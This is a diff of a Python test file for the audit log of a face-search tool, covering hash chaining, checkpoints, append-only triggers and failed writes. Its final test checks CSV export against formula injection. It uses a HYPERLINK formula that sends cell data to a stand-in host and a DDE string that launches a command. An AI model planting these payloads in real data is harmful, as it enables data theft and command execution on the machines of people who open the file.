@@ -20,13 +20,14 @@ from facesearch.app.context import Context
 from facesearch.cli import app as cli_app
 from facesearch.config import Settings
 from facesearch.store import Store, audit
-from facesearch.store.accounts import AuditEntry
+from facesearch.store.audit import AuditEntry
+from facesearch.vocabulary import Action
 
 
 def _entries(log: audit.AuditLog, n: int, start: int = 0) -> None:
     for i in range(start, start + n):
         log.record(
-            audit.SEARCH,
+            Action.SEARCH,
             actor="ann",
             role="examiner",
             case_ref=f"CASE-{i}",
@@ -81,10 +82,10 @@ def test_the_key_is_created_on_first_use_private_and_outside_the_database(log: a
     assert key is not None and key.from_seq == 1 and len(key.secret) == 32
     entries, _ = audit.query(log.store)
     # A fresh home is keyed from its first entry: no plain hash anywhere, no marker entry needed.
-    assert all(e["action"] == audit.SEARCH for e in entries)
+    assert all(e["action"] == Action.SEARCH.value for e in entries)
     row = {k: entries[-1][k] for k in audit.FIELDS}
     for k in audit.JSON_FIELDS:
-        row[k] = audit._dumps(row[k]) if row[k] is not None else None
+        row[k] = audit.canonical_json(row[k]) if row[k] is not None else None
     assert entries[-1]["hash"] == audit.entry_hash(row, key.secret) != audit.entry_hash(row)
     assert audit.verify_chain(log.store, log.head_path).ok
 
@@ -103,8 +104,9 @@ def test_deleting_the_tail_together_with_the_checkpoint_is_caught(log: audit.Aud
     (home / audit.HEAD_FILE).unlink()
     report = audit.verify_chain(log.store, log.head_path)
     assert not report.ok and any("checkpoint" in p and "missing" in p for p in report.problems)
-    # An empty log without a checkpoint is a new home, not a failure.
-    assert audit.verify_chain(Store(f"sqlite:///{home / 'other.db'}"), home / "absent.json").ok
+    # An empty log without a checkpoint is a new home, not a failure (a new home has no audit key yet).
+    (home / "new").mkdir()
+    assert audit.verify_chain(Store(f"sqlite:///{home / 'new' / 'other.db'}"), home / "new" / "absent.json").ok
 
 
 def test_a_home_from_0_2_0_is_keyed_from_the_point_the_key_appears(home: Path) -> None:
@@ -118,7 +120,7 @@ def test_a_home_from_0_2_0_is_keyed_from_the_point_the_key_appears(home: Path) -
     _entries(new, 2, start=3)
     key = audit.read_key(home / audit.KEY_FILE)
     assert key is not None and key.from_seq == 4
-    marker = audit.query(store, action=audit.AUDIT_KEY)[0]
+    marker = audit.query(store, action=Action.AUDIT_KEY.value)[0]
     assert len(marker) == 1 and marker[0]["seq"] == 4 and marker[0]["details"] == {"from_seq": 4, "plain_until": 3}
     report = audit.verify_chain(store, home / audit.HEAD_FILE)
     assert report.ok and report.entries == 6
@@ -134,7 +136,7 @@ def test_a_lost_key_is_reported_and_a_new_one_says_so(log: audit.AuditLog, home:
     assert not report.ok and any("audit.key" in p for p in report.problems)
     fresh = audit.AuditLog(log.store, log.head_path)
     _entries(fresh, 1, start=9)
-    marker = audit.query(log.store, action=audit.AUDIT_KEY)[0]
+    marker = audit.query(log.store, action=Action.AUDIT_KEY.value)[0]
     assert marker[0]["outcome"] == "warning" and marker[0]["details"]["previous_key"] == "missing"
     report = audit.verify_chain(log.store, log.head_path)
     assert not report.ok and any("entries 1..5" in p and "lost or replaced" in p for p in report.problems)
@@ -148,7 +150,7 @@ def test_dropped_triggers_are_restored_when_the_home_is_opened(synthetic_env: Pa
         conn.execute(text("DROP TRIGGER audit_log_no_delete"))
     ctx.store.close()
     again = Context.open(Settings())
-    warning = audit.query(again.store, action=audit.AUDIT_TRIGGERS)[0]
+    warning = audit.query(again.store, action=Action.AUDIT_TRIGGERS.value)[0]
     assert len(warning) == 1 and warning[0]["outcome"] == "warning"
     assert sorted(warning[0]["details"]["restored"]) == ["audit_log_no_delete", "audit_log_no_update"]
     with pytest.raises(DatabaseError, match="append-only"), again.store.database.begin() as conn:
@@ -156,7 +158,7 @@ def test_dropped_triggers_are_restored_when_the_home_is_opened(synthetic_env: Pa
     assert audit.verify_chain(again.store, again.audit.head_path).ok
     # Nothing to restore: no second warning.
     Context.open(Settings())
-    assert audit.query(again.store, action=audit.AUDIT_TRIGGERS)[1] == 1
+    assert audit.query(again.store, action=Action.AUDIT_TRIGGERS.value)[1] == 1
 
 
 def _fill_up(store: Store) -> None:
@@ -177,7 +179,7 @@ def test_a_failed_write_raises_at_once_and_is_never_swallowed(log: audit.AuditLo
     started = time.monotonic()
     with pytest.raises(audit.AuditWriteError, match="full") as err:
         for i in range(200):  # free pages absorb a few entries; the file cannot grow
-            log.record(audit.SEARCH, actor="ann", case_ref="CASE-SECRET", results=[{"face_id": i, "x": "y" * 500}])
+            log.record(Action.SEARCH, actor="ann", case_ref="CASE-SECRET", results=[{"face_id": i, "x": "y" * 500}])
     assert time.monotonic() - started < 10  # not retried 50 times like a lost race
     assert "CASE-SECRET" not in str(err.value) and "face_id" not in str(err.value)
 
@@ -185,13 +187,13 @@ def test_a_failed_write_raises_at_once_and_is_never_swallowed(log: audit.AuditLo
 def test_a_checkpoint_that_cannot_be_written_fails_the_entry(log: audit.AuditLog, home: Path) -> None:
     broken = audit.AuditLog(log.store, home / "gone" / audit.HEAD_FILE, key_path=home / audit.KEY_FILE)
     with pytest.raises(audit.AuditWriteError, match="checkpoint"):
-        broken.record(audit.LOGIN, actor="ann")
+        broken.record(Action.LOGIN, actor="ann")
 
 
 def test_csv_export_neutralises_formula_cells(log: audit.AuditLog, home: Path) -> None:
     evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
     for ref in evil:
-        log.record(audit.SEARCH, actor="ann", role="examiner", case_ref=ref, purpose="=cmd|' /C calc'!A0")
+        log.record(Action.SEARCH, actor="ann", role="examiner", case_ref=ref, purpose="=cmd|' /C calc'!A0")
     text_ = audit.export(log.store, "csv")
     rows = list(csv.DictReader(io.StringIO(text_)))
     refs = [r["case_ref"] for r in rows[-len(evil) :]]
